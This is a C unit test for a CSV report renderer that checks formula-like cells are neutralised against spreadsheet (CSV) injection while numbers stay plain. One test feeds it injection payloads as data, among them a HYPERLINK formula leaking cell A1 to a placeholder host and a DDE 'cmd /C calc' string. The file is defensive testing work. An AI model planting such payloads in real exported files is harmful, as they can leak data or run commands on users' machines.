/* test_report_csv.c - aggregator/report.c's csv format: RFC 4180 cells, and no cell that a
 * spreadsheet would run as a formula (OWASP's CSV injection), while numbers stay numbers. */
#include "report.h"

#include <criterion/criterion.h>
#include <string.h>

static char *render(struct agg_progress_target *t, size_t n)
{
    static char text[4096];
    struct agg_progress p = {0};
    struct ct_buf out = CT_BUF_INIT;

    p.year = 2015;
    p.as_of_ms = 1435679999999; /* 2015-06-30T23:59:59.999+08:00 */
    p.targets = t;
    p.n_targets = n;
    cr_assert_eq(agg_report_render(&p, AGG_REPORT_CSV, false, &out), 0);
    cr_assert_lt(out.len, sizeof(text));
    memcpy(text, out.data, out.len);
    text[out.len] = '\0';
    ct_buf_free(&out);
    return text;
}

#define HEADER                                                                                     \
    "year,as_of,district,code,name_zh,name_en,unit,kind,actual,target,comparator,pct,status,"      \
    "units_reporting,expected_to_date,pace_pct,target_scope\n"

Test(report_csv, formula_cells_get_a_quote_and_numbers_stay_numbers)
{
    struct agg_progress_target t[] = {
        {.code = "evil",
         .name_zh = "=HYPERLINK(\"http://x/?\"&A1,\"点击\")",
         .name_en = "@SUM(1+1)*cmd|' /C calc'!A0",
         .unit = "+1",
         .kind = "sum",
         .actual = "-12.5",
         .target = "-3",
         .comparator = ">=",
         .pct = "-416.67",
         .status = "met",
         .units_reporting = 2},
        {.code = "tabbed",
         .name_zh = "\t=1+2",
         .name_en = "\r=1+2",
         .unit = "-",
         .kind = "sum",
         .actual = "-0.25",
         .target = "10",
         .comparator = ">=",
         .pct = NULL,
         .status = "no_data",
         .units_reporting = 0},
    };
    cr_assert_str_eq(render(t, 2),
                     HEADER "2015,2015-06-30T23:59:59.999+08:00,,evil,"
                            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"点击\"\")\","
                            "\"'@SUM(1+1)*cmd|' /C calc'!A0\",\"'+1\",sum,-12.5,-3,>=,-416.67,"
                            "met,2,,,city\n"
                            "2015,2015-06-30T23:59:59.999+08:00,,tabbed,\"'\t=1+2\",\"'\r=1+2\","
                            "\"'-\",sum,-0.25,10,>=,,no_data,0,,,city\n");
}

Test(report_csv, ordinary_cells_are_left_as_they_are)
{
    struct agg_progress_target t[] = {{.code = "rd_centers",
                                       .name_zh = "市级研发中心",
                                       .name_en = "Municipal R&D centres, new",
                                       .unit = "个",
                                       .kind = "sum",
                                       .actual = "0.5",
                                       .target = "100",
                                       .comparator = "<=",
                                       .pct = "0.5",
                                       .status = "on_track",
                                       .units_reporting = 1}};
    cr_assert_str_eq(render(t, 1), HEADER "2015,2015-06-30T23:59:59.999+08:00,,rd_centers,"
                                          "市级研发中心,\"Municipal R&D centres, new\",个,sum,"
                                          "0.5,100,<=,0.5,on_track,1,,,city\n");
}
